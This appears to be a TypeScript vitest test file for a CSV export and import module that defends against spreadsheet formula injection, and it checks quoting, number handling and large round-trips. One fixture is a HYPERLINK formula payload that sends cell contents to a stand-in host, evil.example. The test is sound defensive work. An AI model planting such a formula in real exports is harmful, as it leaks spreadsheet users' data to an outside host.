import { describe, expect, it } from 'vitest';
import { importProblemsToCsv } from '../../../../src/reports/csv/import-problems-csv';
import { readCsv } from '../../../../src/reports/csv/read-csv';
import {
  formatCsv,
  formatCsvField,
  neutraliseFormula,
  restoreNeutralisedFormula,
} from '../../../../src/reports/csv/write-csv';

const hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"Buka")';

describe('the one CSV writer', () => {
  it('puts a quote before text a spreadsheet would run as a formula: = + - @ tab CR', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r', '\uFF1D'])
      expect(neutraliseFormula(`${start}SUM(A1)`)).toBe(`'${start}SUM(A1)`);
    expect(formatCsvField(hyperlink)).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Buka"")"`);
    expect(formatCsvField('Dinas Sosial')).toBe('Dinas Sosial');
    expect(formatCsvField('a=b')).toBe('a=b');
  });

  it('keeps numbers numbers: a negative number is not text', () => {
    expect(formatCsvField(-3.5)).toBe('-3.5');
    expect(formatCsvField(0)).toBe('0');
    expect(formatCsvField(Number.NaN)).toBe('');
    expect(formatCsvField('-3.5')).toBe("'-3.5");
  });

  it('quotes commas, semicolons, quotes, line breaks and edge spaces (RFC 4180)', () => {
    expect(formatCsvField('a, b')).toBe('"a, b"');
    expect(formatCsvField('a; b')).toBe('"a; b"');
    expect(formatCsvField('kata "kutip"')).toBe('"kata ""kutip"""');
    expect(formatCsvField('baris\nbaru')).toBe('"baris\nbaru"');
    expect(formatCsvField(' x')).toBe('" x"');
    expect(formatCsvField(null)).toBe('');
    expect(formatCsvField(true)).toBe('true');
    expect(formatCsv(['a', 'b'], [[1, 'x']])).toBe('\uFEFFa,b\r\n1,x\r\n');
    expect(formatCsv(['a'], [], { byteOrderMark: false })).toBe('a\r\n');
  });

  it('undoes its own quote on the way back in, and only its own', () => {
    expect(restoreNeutralisedFormula(neutraliseFormula(hyperlink))).toBe(hyperlink);
    expect(restoreNeutralisedFormula("'-5")).toBe('-5');
    expect(restoreNeutralisedFormula("'Kantor")).toBe("'Kantor");
    expect(restoreNeutralisedFormula('Kantor')).toBe('Kantor');
  });

  it('writes the downloadable problem list through it', () => {
    const csv = importProblemsToCsv([
      { row: 4, column: 'alias', value: hyperlink, message: { id: 'salah', en: 'wrong' } },
    ]);
    expect(csv).toBe(
      `\uFEFFrow,column,value,message_id,message_en\r\n4,alias,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Buka"")",salah,wrong\r\n`,
    );
  });
});

describe('the one CSV reader and writer together', () => {
  it('round-trips 100,000 rows of awkward text unchanged, formula starts included', () => {
    const awkward = [
      'Dinas "Sosial"',
      'a, b; c',
      'baris\r\nbaru',
      ' tepi ',
      '=1+1',
      '-5',
      '@x',
      '\tTab',
      "'Kantor",
    ];
    const header = ['kode', 'nama', 'nilai', 'catatan'];
    const rows: string[][] = [];
    for (let index = 0; index < 100_000; index += 1)
      rows.push([
        `16.${index}`,
        `Unit ${index} ${awkward[index % awkward.length]}`,
        String(index / 7),
        awkward[(index * 3) % awkward.length] ?? '',
      ]);
    const text = formatCsv(header, rows);
    const [readHeader, ...readRows] = readCsv(text);
    expect(readHeader).toEqual(header);
    expect(readRows).toHaveLength(100_000);
    const restored = readRows.map((cells) => cells.map(restoreNeutralisedFormula));
    expect(restored).toEqual(rows);
    // On the wire every formula start is neutralised: no line of the file starts a cell with "=", "+", "-", "@".
    expect(text).not.toMatch(/(^|,)"?[=+\-@]/m);
  }, 30_000);

  it('reads what Indonesian Excel writes: semicolons, a byte-order mark, quotes left open inside a field', () => {
    expect(readCsv('\uFEFFkode;nama\r\n16.06;"Musi; Banyuasin"\r\n')).toEqual([
      ['kode', 'nama'],
      ['16.06', 'Musi; Banyuasin'],
    ]);
    expect(readCsv('a,b\n1,kata "kutip" saja\n')).toEqual([
      ['a', 'b'],
      ['1', 'kata "kutip" saja'],
    ]);
  });
});
